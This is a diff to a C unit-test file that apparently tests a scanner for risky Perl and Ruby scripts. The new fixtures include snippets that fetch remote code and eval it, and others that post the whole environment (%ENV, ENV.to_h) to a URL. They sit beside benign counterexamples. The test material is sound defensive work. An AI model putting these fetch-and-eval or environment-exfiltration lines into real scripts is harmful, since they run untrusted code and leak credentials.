@@ -207,6 +207,36 @@ static void test_read(void **state)
 	rmdir(dir);
 }
 
+/* Perl and Ruby: a string eval of a fetch; %ENV or ENV sent whole. */
+static void test_perl_ruby(void **state)
+{
+	(void)state;
+	static const char perl_fetch[] =
+		"use HTTP::Tiny;\nmy $r = HTTP::Tiny->new->get($url);\nmy $code = $r->{content};\n"
+		"eval $code;\n";
+	static const char perl_lwp[] = "use LWP::Simple;\neval(get('http://x/s.pl'));\n";
+	static const char perl_block[] =
+		"use HTTP::Tiny;\nmy $r;\neval { $r = HTTP::Tiny->new->get($url); 1 } or die;\n";
+	static const char perl_env[] =
+		"use HTTP::Tiny; use JSON::PP;\nHTTP::Tiny->new->post($u, { content => encode_json(\\%ENV) });\n";
+	static const char perl_one[] = "use HTTP::Tiny;\nHTTP::Tiny->new->get(\"$ENV{API}/v1\");\n";
+	static const char ruby_fetch[] =
+		"require 'net/http'\nbody = Net::HTTP.get(URI(u))\neval(body)\n";
+	static const char ruby_env[] =
+		"require 'net/http'\nNet::HTTP.post(URI(u), ENV.to_h.to_json)\n";
+	static const char ruby_one[] =
+		"require 'net/http'\nNet::HTTP.post(URI(u), { token: ENV['CI_TOKEN'] }.to_json)\n";
+
+	assert_int_equal(perl_text_facts(perl_fetch, strlen(perl_fetch)), TEXT_FETCH_EVAL);
+	assert_int_equal(perl_text_facts(perl_lwp, strlen(perl_lwp)), TEXT_FETCH_EVAL);
+	assert_int_equal(perl_text_facts(perl_block, strlen(perl_block)), 0);
+	assert_int_equal(perl_text_facts(perl_env, strlen(perl_env)), TEXT_ENV_SENT);
+	assert_int_equal(perl_text_facts(perl_one, strlen(perl_one)), 0);
+	assert_int_equal(ruby_text_facts(ruby_fetch, strlen(ruby_fetch)), TEXT_FETCH_EVAL);
+	assert_int_equal(ruby_text_facts(ruby_env, strlen(ruby_env)), TEXT_ENV_SENT);
+	assert_int_equal(ruby_text_facts(ruby_one, strlen(ruby_one)), 0);
+}
+
 static bool sends_env(const char *text)
 {
 	return script_sends_builtin_env(text, strlen(text), curl_only, 1);
@@ -257,6 +287,7 @@ int main(void)
 		cmocka_unit_test(test_variables),
 		cmocka_unit_test(test_functions),
 		cmocka_unit_test(test_builtin_env),
+		cmocka_unit_test(test_perl_ruby),
 		cmocka_unit_test(test_python_fetch_eval),
 		cmocka_unit_test(test_python_env_sent),
 		cmocka_unit_test(test_node),
